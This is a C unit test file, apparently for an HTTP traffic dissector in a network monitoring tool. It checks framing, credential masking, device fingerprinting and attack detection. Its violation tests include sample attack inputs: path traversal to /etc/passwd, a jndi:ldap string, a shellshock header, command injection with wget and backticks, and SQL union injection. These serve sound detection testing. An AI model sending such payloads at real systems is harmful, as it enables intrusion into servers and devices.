/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The HTTP dissector, http.c, and its headers, http_headers.c: framing of bodies, pairing, fields,
 * credentials, violations, facts, losses. Messages are written for the tests.
 */
#include "http_feed.h"

#define GET      "GET /a/b?x=1 HTTP/1.1\r\nHost: plc.example:8080\r\nUser-Agent: t\r\n\r\n"
#define OK(n)    "HTTP/1.1 200 OK\r\nContent-Length: " #n "\r\n\r\n"
#define MESSAGE  "{\"message\""
#define STATUS   "\"status\":"
#define NEXT_200 assert_has(server("HTTP/1.1 204 No Content\r\n\r\n"), "\"status\":204")

static void test_request_and_response(void **state)
{
    (void)state;
    const char *out = client(GET);
    assert_has(out, "\"command\":\"get\"");
    assert_has(out, "\"class\":\"read\",\"kind\":\"request\",\"direction\":\"to_server\"");
    assert_has(out, "\"http_method\":\"GET\",\"url\":\"/a/b?x=1\",\"protocol\":\"HTTP/1.1\"");
    assert_has(out, "\"http_port\":8080,\"hostname\":\"plc.example\",\"http_user_agent\":\"t\"");
    assert_has(out, "\"header_count\":2,\"header_length\":64");
    assert_clean(out);
    out = server("HTTP/1.1 200 OK\r\nServer: Boa/0.94\r\nContent-Type: image/png; q=1\r\n"
                 "Content-Length: 4\r\n\r\nabcd");
    assert_has(out, "\"command\":\"get\"");
    assert_has(out, "\"kind\":\"response\",\"direction\":\"to_client\",\"paired\":true");
    assert_has(out, "\"http_method\":\"GET\",\"hostname\":\"plc.example\",\"url\":\"/a/b?x=1\"");
    assert_has(
        out, "\"protocol\":\"HTTP/1.1\",\"status\":200,\"reason\":\"OK\",\"server\":\"Boa/0.94\"");
    assert_has(out, "\"http_content_type\":\"image/png\",\"length\":4");
    assert_int_equal(feed_count(out, MESSAGE), 1);
    assert_clean(out);
}

/* Who logs in by the host or by a URL: neither names nor passwords are shown as a part of them. */
static void test_users_in_urls(void **state)
{
    (void)state;
    const char *out = client("GET http://joe:s3cret@plc.example/a HTTP/1.0\r\n"
                             "Host: joe:s3c@ret@plc.example:8080\r\n"
                             "Referer: http://joe:s3cret@plc.example/b\r\n\r\n");
    assert_has(out, "\"http_port\":8080,\"hostname\":\"plc.example\"");
    assert_has(out, "@plc.example/a\"");
    assert_has(out, "@plc.example/b\"");
    assert_has_not(out, "s3c");
    assert_has(out, "\"protocol\":\"HTTP/1.0\"");
    out = server("HTTP/1.0 302 Found\r\nLocation: http://joe:s3cret@plc.example/c\r\n\r\n");
    assert_has(out, "\"protocol\":\"HTTP/1.0\",\"status\":302");
    assert_has(out, "\"hostname\":\"plc.example\"");
    assert_has(out, "@plc.example/c\"");
    assert_has_not(out, "s3c");
}

/* Lengths of bodies: RFC 9112, 6.3. */
static void test_bodies(void **state)
{
    (void)state;
    static const struct {
        const char *method, *response;
    } cases[] = {
        {"GET", OK(10) "HTTP/1.1 2"},
        {"GET", OK(0)},
        {"HEAD", OK(5000)},
        {"GET", "HTTP/1.1 304 Not Modified\r\nContent-Length: 5000\r\n\r\n"},
        {"GET", "HTTP/1.1 204 No\r\nContent-Length: 5000\r\n\r\n"},
        {"GET", "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                "5\r\nHTTP/\r\n00A;ext=1\r\n0123456789\r\n0\r\nTrailer: 1\r\n\r\n"},
        {"GET", "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n"},
        {"GET", "HTTP/1.1 200 OK\nContent-Length: 3\n\nabc"},
        {"GET", "HTTP/1.1 200 OK\r\nX: a\r\n folded\r\nContent-Length:  3 \r\n\r\nabc"},
    };
    for (unsigned i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char request[128];
        feed_next_flow(&f);
        snprintf(request, sizeof(request), "%s / HTTP/1.1\r\nHost: a\r\n\r\n", cases[i].method);
        client(request);
        client(GET);
        const char *out = server(cases[i].response);
        assert_int_equal(feed_count(out, STATUS), 1);
        assert_clean(out);
        NEXT_200;
        /* and byte by byte */
        feed_next_flow(&f);
        client(request);
        client(GET);
        unsigned statuses = 0;
        for (const char *at = cases[i].response; *at; at++) {
            out = feed_raw(&f, FT_TO_CLIENT, (const uint8_t *)at, 1);
            statuses += feed_count(out, STATUS);
            assert_clean(out);
        }
        assert_int_equal(statuses, 1);
        NEXT_200;
    }
}

static void test_until_close(void **state)
{
    (void)state;
    client(GET);
    assert_has(server("HTTP/1.0 200 OK\r\n\r\nfirst"), "\"status\":200");
    assert_string_equal(server("HTTP/1.1 200 OK\r\n\r\n"), "");
    feed_next_flow(&f);
    client("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc");
    assert_has(client(GET), "\"command\":\"get\"");
}

static void test_continue_and_pipelining(void **state)
{
    (void)state;
    client("POST /p HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n");
    assert_has(server("HTTP/1.1 100 Continue\r\n\r\n"), "\"paired\":false");
    client("abc" GET "HEAD /h HTTP/1.1\r\nHost: a\r\n\r\n");
    const char *out = server(OK(2) "ab" OK(3) "abc" OK(9) OK(0));
    assert_int_equal(feed_count(out, "\"paired\":true"), 3);
    assert_int_equal(feed_count(out, STATUS), 4);
    assert_has(out, "\"url\":\"/p\"");
    assert_has(out, "\"url\":\"/a/b?x=1\"");
    assert_has(out, "\"http_method\":\"HEAD\",\"hostname\":\"a\",\"url\":\"/h\"");
    assert_clean(out);
}

/* Nobody saw the request: it may have been HEAD. */
static void test_one_direction(void **state)
{
    (void)state;
    assert_int_equal(feed_count(server(OK(5) "abcde" OK(5) "abcde"), STATUS), 2);
    assert_int_equal(feed_count(server(OK(50)), STATUS), 1);
    assert_int_equal(feed_count(server(OK(0)), STATUS), 1);
    assert_has(server(OK(0)), "\"command\":\"response\"");
}

static void test_direction_is_corrected(void **state)
{
    (void)state;
    assert_has(server(GET), "\"direction\":\"to_server\"");
    assert_has(client(OK(0)), "\"direction\":\"to_client\",\"paired\":true");
}

static void test_upgrade_and_tunnel(void **state)
{
    (void)state;
    client("GET /w HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n");
    assert_has(
        server("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello"),
        "\"upgrade\":\"websocket\"");
    assert_string_equal(client("\x81\x85....hello" GET), "");
    feed_next_flow(&f);
    assert_violation(client("CONNECT a.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n"),
                     "proxy_tunnel");
    assert_has(server("HTTP/1.1 200 Established\r\n\r\n"), "\"command\":\"connect\"");
    assert_has(client("\x16\x03\x01"), "switch to an unknown protocol");
    feed_next_flow(&f);
    client("CONNECT a.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n");
    assert_has(server("HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n"), "\"kind\":\"exception\"");
    assert_has(client(GET), "\"command\":\"get\"");
}

/* The response that grants an upgrade or a tunnel was not seen. */
static void test_upgrade_in_one_direction(void **state)
{
    (void)state;
    client("GET /w HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n");
    assert_string_equal(client("\x81\x85....hello"), "");
    feed_next_flow(&f);
    client("CONNECT a.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n");
    assert_string_equal(client("\x16\x03\x01"), "");
    feed_next_flow(&f);
    client("GET /w HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n");
    client(GET); /* it was not granted */
    assert_violation(client("\x81\x85....hello"), "unexpected_content");
}

static void test_simple_and_http2(void **state)
{
    (void)state;
    assert_has(client("GET /old\r\n"), "\"url\":\"/old\"");
    assert_clean(server("<html>no headers</html>"));
    feed_next_flow(&f);
    const char *out = client("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n......");
    assert_has(out, "\"command\":\"http2_preface\"");
    assert_clean(out);
    assert_string_equal(client(GET), "");
}

static void test_loss_in_a_body(void **state)
{
    (void)state;
    client(GET);
    client(GET);
    static const char part[] = OK(20) "abcde";
    /* one byte is lost behind these: 14 are left */
    ft_harness_feed_cut(f.harness, &f.flow, FT_TO_CLIENT, ++f.time_ns, part, sizeof(part) - 1);
    const char *out = server("01234567890123" OK(0));
    assert_int_equal(feed_count(out, STATUS), 1);
    assert_clean(out);
    /* in the part that is looked at */
    feed_next_flow(&f);
    client(GET);
    client(GET);
    static const char page[] = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                               "Content-Length: 20\r\n\r\n<html";
    ft_harness_feed_cut(f.harness, &f.flow, FT_TO_CLIENT, ++f.time_ns, page, sizeof(page) - 1);
    out = server("01234567890123" OK(0));
    assert_int_equal(feed_count(out, STATUS), 1);
    assert_clean(out);
    /* in a chunk, and beyond it */
    feed_next_flow(&f);
    client(GET);
    static const char chunk[] = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nabc";
    ft_harness_feed_cut(f.harness, &f.flow, FT_TO_CLIENT, ++f.time_ns, chunk, sizeof(chunk) - 1);
    assert_clean(server("ef\r\n0\r\n\r\n"));
    NEXT_200;
    static const char last[] = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nabcdef";
    ft_harness_feed_cut(f.harness, &f.flow, FT_TO_CLIENT, ++f.time_ns, last, sizeof(last) - 1);
    assert_clean(server("\n7\r\n1234567\r\n0\r\n\r\n"));
    NEXT_200;
}

static void test_midstream(void **state)
{
    (void)state;
    f.flow.is_midstream = 1;
    assert_string_equal(server("the end of some page</html>"), "");
    assert_int_equal(feed_count(server("and more " OK(2)), STATUS), 1);
    assert_int_equal(feed_count(server(OK(2) "ab"), STATUS), 1);
    assert_clean(client("of a body"));
    assert_has(client(GET), "\"command\":\"get\"");
}

static void test_credentials(void **state)
{
    (void)state;
    const char *out = client("GET / HTTP/1.1\r\nHost: a\r\nCookie: id=topsecret; b=2\r\n"
                             "Authorization: Basic am9lOmMwbDpvbg==\r\n\r\n"); /* joe:c0l:on */
    assert_violation(out, "credential_clear_text");
    assert_no_violation(out, "default_login");
    assert_has(out, "\"auth\":{\"type\":\"Basic\",\"is_proxy\":false,\"user\":\"joe\"");
    assert_has(out, "\"password\":{\"length\":6,\"hash\":");
    assert_has(out, "\"cookie_name\":[\"id\",\"b\"]");
    assert_has_not(out, "topsecret");
    assert_has_not(out, "c0l");
    /* USER:USER */
    assert_violation(
        client("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: basic VVNFUjpVU0VS\r\n\r\n"),
        "default_login");
    out = client("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Digest realm=\"r\", username=\"joe\","
                 " response=\"0123abcd\"\r\n\r\n");
    assert_has(out, "\"type\":\"Digest\",\"is_proxy\":false,\"user\":\"joe\",\"realm\":\"r\"");
    assert_has_not(out, "0123abcd");
    assert_clean(out);
    assert_has_not(client("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer t0ken\r\n\r\n"),
                   "t0ken");
    /* neither a scheme nor a name: all of it is secret */
    out = client("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: t0ken\r\nCookie: b4re; c=1\r\n\r\n");
    assert_has_not(out, "t0ken");
    assert_has_not(out, "b4re");
    assert_has(out, "\"token\":{\"length\":5,");
    assert_has(out, "\"cookie_name\":[\"\",\"c\"]");
}

/* What the server says of credentials. */
static void test_result_of_login(void **state)
{
    (void)state;
    static const struct {
        const char *credentials, *answer, *result;
    } rows[] = {
        {"Authorization: Basic YTpi", "401 No\r\nWWW-Authenticate: Basic realm=\"r\"",
         "\"user\":\"a\",\"result\":\"failure\""},
        {"Authorization: Basic YTpi", "401 No", "\"user\":\"a\",\"result\":\"failure\""},
        {"Authorization: Basic YTpi", "200 OK", "\"user\":\"a\",\"result\":\"success\""},
        {"Authorization: Bearer t0ken", "302 Found", "\"result\":\"success\""},
        {"Authorization: Basic YTpi", "403 Forbidden", NULL}, /* who it is was accepted, or not */
        {"Authorization: Basic YTpi", "404 Not Found", NULL},
        {"Authorization: Basic YTpi", "500 Broken", NULL},
        {"Authorization: Basic YTpi", "407 No\r\nProxy-Authenticate: Basic realm=\"r\"", NULL},
        {"Authorization: Digest realm=\"r\", username=\"joe\"",
         "401 No\r\nWWW-Authenticate: Digest realm=\"r\", stale=true, nonce=\"n\"", NULL},
        {"Authorization: Digest realm=\"r\", username=\"joe\"",
         "401 No\r\nWWW-Authenticate: Digest realm=\"r\", stale=false, nonce=\"n\"",
         "\"user\":\"joe\",\"result\":\"failure\""},
        {"Authorization: NTLM TlRMTVNTUAAB", "401 No\r\nWWW-Authenticate: NTLM TlRMTVNTUAAC", NULL},
        {"Authorization: NTLM TlRMTVNTUAAD",
         "401 No\r\nWWW-Authenticate: Negotiate\r\nWWW-Authenticate: NTLM",
         "\"result\":\"failure\""},
        {"Proxy-Authorization: Basic YTpi", "407 No", "\"user\":\"a\",\"result\":\"failure\""},
        {"Proxy-Authorization: Basic YTpi", "401 No", NULL},
        {"Proxy-Authorization: Basic YTpi", "200 OK", "\"user\":\"a\",\"result\":\"success\""},
        {"Accept: a", "401 No", NULL},
        {"Accept: a", "200 OK", NULL},
    };
    for (unsigned i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        char request[256], response[256];
        snprintf(request, sizeof(request), "GET / HTTP/1.1\r\nHost: a\r\n%s\r\n\r\n",
                 rows[i].credentials);
        snprintf(response, sizeof(response), "HTTP/1.1 %s\r\nContent-Length: 0\r\n\r\n",
                 rows[i].answer);
        assert_has_not(client(request), "\"result\"");
        const char *out = server(response);
        char *expected = NULL;
        if (rows[i].result && asprintf(&expected, "\"auth\":{%s}", rows[i].result) > 0)
            assert_has(out, expected);
        else
            assert_has_not(out, "\"result\"");
        free(expected);
    }
    /* An answer whose request was not seen says nothing of it. */
    feed_close(&f);
    setup(NULL);
    assert_has_not(server("HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n"), "\"result\"");
}

static void test_forms(void **state)
{
    (void)state;
    const char *out =
        client("POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: 30\r\nContent-Type: "
               "application/x-www-form-urlencoded\r\n\r\nusername=joe&password=s3cret&a");
    assert_has(out, "\"command\":\"form_login\"");
    assert_has(out, "\"class\":\"auth\"");
    assert_has(out, "\"form\":{\"user\":\"joe\",\"password\":{\"length\":6");
    assert_violation(out, "credential_clear_text");
    assert_has_not(out, "s3cret");
    out = client("GET /l?user=admin&pwd=admin HTTP/1.1\r\nHost: a\r\n"
                 "Referer: http://a/l?pwd=s3cret\r\n\r\n");
    assert_has(out, "\"url\":\"/l?user=admin&pwd=***\"");
    assert_has(out, "\"form\":{\"user\":\"admin\",\"password\":{\"length\":5");
    assert_has(out, "\"http_refer\":\"http://a/l?pwd=***\"");
    assert_violation(out, "default_login");
    assert_has_not(out, "s3cret");
    /* no password, no login */
    out = client("POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\nContent-Type: "
                 "application/x-www-form-urlencoded\r\n\r\nuser=joe&a");
    assert_has_not(out, "form_login");
    assert_clean(out);
}

static void test_files(void **state)
{
    (void)state;
    static const char form[] = "POST /u HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; "
                               "boundary=b\r\nContent-Length: %u\r\n\r\n%s";
    static const char part[] = "--b\r\nContent-Disposition: form-data; name=\"f\"; "
                               "filename=\"%s\"\r\n\r\n\x7f"
                               "ELF\r\n--b--\r\n";
    char body[512], request[1024];
    snprintf(body, sizeof(body), part, "CPU_V4.UPG");
    snprintf(request, sizeof(request), form, (unsigned)strlen(body), body);
    const char *out = client(request);
    assert_has(out, "\"command\":\"firmware_upload\"");
    assert_has(out, "\"class\":\"firmware\"");
    assert_has(out, "\"file\":{\"name\":\"CPU_V4.UPG\",\"magic\":\"ELF\"}");
    snprintf(body, sizeof(body), part, "notes.txt");
    snprintf(request, sizeof(request), form, (unsigned)strlen(body), body);
    out = client(request);
    assert_has(out, "\"command\":\"file_upload\"");
    assert_has(out, "\"class\":\"file\"");
    out = server("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                 "Content-Length: 6\r\n\r\nMZ....");
    assert_violation(out, "executable");
    assert_has(out, "\"magic\":\"MZ\"");
    assert_clean(server("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                        "Content-Length: 6\r\n\r\nPK...."));
}

static void test_facts(void **state)
{
    (void)state;
    const char *out =
        client("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; x)"
               "\r\n\r\n");
    assert_has(out, "{\"party\":\"sender\",\"fact\":\"os\",\"value\":\"Windows 7\"}");
    assert_has(out, "\"value\":\"workstation\"");
    out = server("HTTP/1.1 302 Found\r\nServer: Microsoft-IIS/6.0\r\nContent-Length: 0\r\n"
                 "Location: /Portal/Portal.mwsl\r\n\r\n");
    assert_has(out, "\"fact\":\"os\",\"value\":\"Windows Server 2003\"");
    assert_has(out, "\"value\":\"Siemens\"");
    assert_has(out, "\"value\":\"plc\"");
    feed_next_flow(&f);
    client(GET);
    out = server("HTTP/1.1 401 No\r\nWWW-Authenticate: Basic realm=\"MOXA NPort 5110\"\r\n"
                 "Content-Length: 0\r\n\r\n");
    assert_has(out, "\"fact\":\"model\",\"value\":\"MOXA NPort 5110\"");
    assert_has(out, "\"fact\":\"vendor\",\"value\":\"Moxa\"");
    assert_clean(out);
    out = server("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=x\r\n\r\n"
                 "<HTML><Title> WAGO 750-881 </Title>");
    assert_has(out, "\"title\":\"WAGO 750-881\"");
    assert_has(out, "\"fact\":\"model\",\"value\":\"WAGO 750-881\"");
    feed_next_flow(&f);
    out = server("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 30\r\n\r\n"
                 "<title>Abbreviations</title>..");
    assert_has(out, "\"title\":\"Abbreviations\"");
    assert_has_not(out, "{\"fact\"");
    out = server(
        "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n"
        "94\r\n<root xmlns=\"urn:schemas-upnp-org:device-1-0\"><device><friendlyName>cam 3"
        "</friendlyName><modelName>M7</modelName><serialNumber>9</serialNumber>.....\r\n0\r\n\r\n");
    assert_has(out, "\"device\":{\"model\":\"M7\",\"serial\":\"9\",\"name\":\"cam 3\"}");
    assert_has(out, "\"fact\":\"serial\",\"value\":\"9\"");
    assert_clean(out);
}

/* What is wrong, and beside it what is not. */
static void test_violations(void **state)
{
    (void)state;
    static const struct {
        const char *name, *wrong, *right;
    } cases[] = {
        {"bad_version", "GET / HTTP/1.7\r\nHost: a\r\n\r\n", "GET / HTTP/1.0\r\nHost: a\r\n\r\n"},
        {"no_host", "GET / HTTP/1.1\r\nA: b\r\n\r\n", "GET / HTTP/1.0\r\nA: b\r\n\r\n"},
        {"control_in_header", "GET / HTTP/1.0\r\nA: b\x01\r\n\r\n",
         "GET / HTTP/1.0\r\nA: b\t\r\n\r\n"},
        {"header_without_colon", "GET / HTTP/1.0\r\nA b\r\n\r\n", "GET / HTTP/1.0\r\nA:\r\n\r\n"},
        {"length_and_chunked",
         "POST / HTTP/1.0\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
         "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
        {"lengths_differ", "POST / HTTP/1.0\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n.",
         "POST / HTTP/1.0\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\n."},
        {"bad_length", "POST / HTTP/1.0\r\nContent-Length: -1\r\n\r\n.",
         "POST / HTTP/1.0\r\nContent-Length: 01\r\n\r\n."},
        {"bad_length", "POST / HTTP/1.0\r\nContent-Length: 99999999999999999999\r\n\r\n.",
         "POST / HTTP/1.0\r\nContent-Length: 9999999999999999\r\n\r\n."},
        {"bad_chunk", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\nxyz\r\n",
         "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n"},
        {"bad_chunk", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000001\r\n",
         "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n1000000000000001\r\n"},
        {"bad_chunk", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nab\r\n",
         "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n"},
        {"bad_transfer_encoding", "POST / HTTP/1.0\r\nTransfer-Encoding: gzip\r\n\r\n.",
         "POST / HTTP/1.0\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"},
        {"traversal", "GET /a/../../etc/passwd HTTP/1.0\r\n\r\n", "GET /a/..b/ HTTP/1.0\r\n\r\n"},
        {"traversal", "GET /%2e%2e%2fetc HTTP/1.0\r\n\r\n", "GET /a%2eb HTTP/1.0\r\n\r\n"},
        {"double_encoding", "GET /%252e%252e HTTP/1.0\r\n\r\n", "GET /100%25 HTTP/1.0\r\n\r\n"},
        {"jndi", "GET / HTTP/1.0\r\nX-Api: ${jndi:ldap://1}\r\n\r\n",
         "GET / HTTP/1.0\r\nX-Api: {\"jndi\":1}\r\n\r\n"},
        {"shellshock", "GET / HTTP/1.0\r\nUser-Agent: () { :;}; id\r\n\r\n",
         "GET / HTTP/1.0\r\nUser-Agent: f() (x)\r\n\r\n"},
        {"command_injection", "GET /cgi-bin/x?a=1;wget+http://1/x HTTP/1.0\r\n\r\n",
         "GET /doc/wget.html HTTP/1.0\r\n\r\n"},
        {"command_injection", "GET /cgi-bin/x?`id` HTTP/1.0\r\n\r\n",
         "GET /cgi-bin/x HTTP/1.0\r\n\r\n"},
        {"sql_or_script_injection", "GET /?a=1+union+select+2 HTTP/1.0\r\n\r\n",
         "GET /?a=union+meeting HTTP/1.0\r\n\r\n"},
        {"scanner", "GET / HTTP/1.0\r\nUser-Agent: Mozilla/5.0 (Nikto/2.1)\r\n\r\n",
         "GET / HTTP/1.0\r\nUser-Agent: Mozilla/5.0\r\n\r\n"},
        {"scripted_client", "GET / HTTP/1.0\r\nUser-Agent: python-requests/2\r\n\r\n",
         "GET / HTTP/1.0\r\nUser-Agent: curl/7\r\n\r\n"},
    };
    for (unsigned i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char name[64];
        snprintf(name, sizeof(name), "\"name\":\"%s\"", cases[i].name);
        feed_next_flow(&f);
        assert_has(client(cases[i].wrong), name);
        feed_next_flow(&f);
        assert_has_not(client(cases[i].right), "{\"violation\"");
    }
}

static void test_more_violations(void **state)
{
    (void)state;
    static char text[80000];
    client(GET);
    assert_violation(server("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"), "client_error");
    client(GET);
    assert_clean(server("HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n"));
    feed_next_flow(&f);
    assert_clean(server(OK(0)));
    assert_violation(client(GET), "early_response");
    feed_next_flow(&f);
    f.flow.is_midstream = 1;
    server(OK(0));
    assert_clean(client(GET));
    f.flow.is_midstream = 0;
    /* a long line, a long URL, many headers */
    feed_next_flow(&f);
    memset(text, 'a', sizeof(text));
    memcpy(text, "GET / HTTP/1.0\r\nA: ", 19);
    memcpy(text + 9000, "\r\n\r\n", 5);
    assert_violation(client(text), "long_header");
    memset(text, 'a', sizeof(text));
    memcpy(text, "GET /", 5);
    memcpy(text + 2060, " HTTP/1.0\r\n\r\n", 14);
    assert_violation(client(text), "long_url");
    int n = snprintf(text, sizeof(text), "GET / HTTP/1.0\r\n");
    for (unsigned i = 0; i < 129; i++)
        n += snprintf(text + n, sizeof(text) - (size_t)n, "A: b\r\n");
    snprintf(text + n, sizeof(text) - (size_t)n, "\r\n");
    assert_violation(client(text), "many_headers");
    assert_clean(client("GET / HTTP/1.0\r\n\r\n"));
}

/* Headers without an end: bounded, and the next message is found. */
static void test_endless_headers(void **state)
{
    (void)state;
    static char text[70000];
    memset(text, 'a', sizeof(text));
    memcpy(text, "GET / HTTP/1.0\r\nContent-Length: 3\r\nA: ", 38);
    text[69999] = 0;
    assert_violation(client(text), "long_header");
    assert_clean(client("aaa"));
    const char *out = client("\r\n\r\nabc" GET);
    assert_int_equal(feed_count(out, MESSAGE), 2); /* and the body */
    assert_has(out, "\"url\":\"/a/b?x=1\"");
}

static void test_controls_a_plc(void **state)
{
    (void)state;
    assert_has(client("POST /cgi-bin/cpu.fcgi HTTP/1.1\r\nHost: a\r\n\r\n"), "\"class\":\"mode\"");
    assert_has(client("BREW /pot HTTP/1.1\r\nHost: a\r\n\r\n"), "\"command\":\"other_method\"");
}

static void test_ssdp(void **state)
{
    (void)state;
    static const char search[] = "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
                                 "MAN: \"ssdp:discover\"\r\nST: ssdp:all\r\n\r\n";
    f.flow.id = 50;
    f.flow.transport = FT_TRANSPORT_UDP;
    const char *out = client(search);
    assert_has(out, "\"command\":\"m_search\"");
    assert_has(out, "\"st\":\"ssdp:all\"");
    assert_clean(out);
    assert_has(server("HTTP/1.1 200 OK\r\nSERVER: Linux/3.14 UPnP/1.0\r\nUSN: uuid:1\r\n\r\n"),
               "\"usn\":\"uuid:1\"");
    assert_clean(server(OK(0)));
}

static enum ft_verdict probe(uint16_t port, const char *text)
{
    struct ft_harness_flow flow = f.flow;
    flow.server_port = port;
    return ft_harness_probe(f.harness, &flow, FT_TO_SERVER, text, (uint32_t)strlen(text));
}

static void test_probe(void **state)
{
    (void)state;
    assert_int_equal(probe(80, GET), FT_YES);
    assert_int_equal(probe(80, "HTTP/1.1 200 OK\r\n"), FT_YES);
    assert_int_equal(probe(80, "HTTP/1"), FT_MAYBE);
    assert_int_equal(probe(80, "GET /lo"), FT_MAYBE);
    assert_int_equal(probe(80, "NOTIFY sip:a@b SIP/2.0\r\n"), FT_NO);
    assert_int_equal(probe(80, "OPTIONS rtsp://a RTSP/1.0\r\n"), FT_NO);
    assert_int_equal(probe(80, "USER joe\r\n"), FT_NO);
    assert_int_equal(probe(80, "\x16\x03\x01\x02"), FT_NO);
    assert_int_equal(probe(80, ""), FT_MAYBE);
}

/* Whatever comes, nothing breaks. */
static void test_garbage(void **state)
{
    (void)state;
    static const char sample[] =
        "POST /a?b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nCookie: a=b\r\n"
        "Content-Type: text/html\r\nAuthorization: Basic YTpi\r\n\r\n5\r\nabcde\r\n0\r\n\r\n"
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nabcde";
    feed_garbage(&f, sample, sizeof(sample));
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(test_request_and_response),
        TEST(test_users_in_urls),
        TEST(test_bodies),
        TEST(test_until_close),
        TEST(test_continue_and_pipelining),
        TEST(test_one_direction),
        TEST(test_direction_is_corrected),
        TEST(test_upgrade_and_tunnel),
        TEST(test_upgrade_in_one_direction),
        TEST(test_simple_and_http2),
        TEST(test_loss_in_a_body),
        TEST(test_midstream),
        TEST(test_credentials),
        TEST(test_result_of_login),
        TEST(test_forms),
        TEST(test_files),
        TEST(test_facts),
        TEST(test_violations),
        TEST(test_more_violations),
        TEST(test_endless_headers),
        TEST(test_controls_a_plc),
        TEST(test_ssdp),
        TEST(test_probe),
        TEST(test_garbage),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
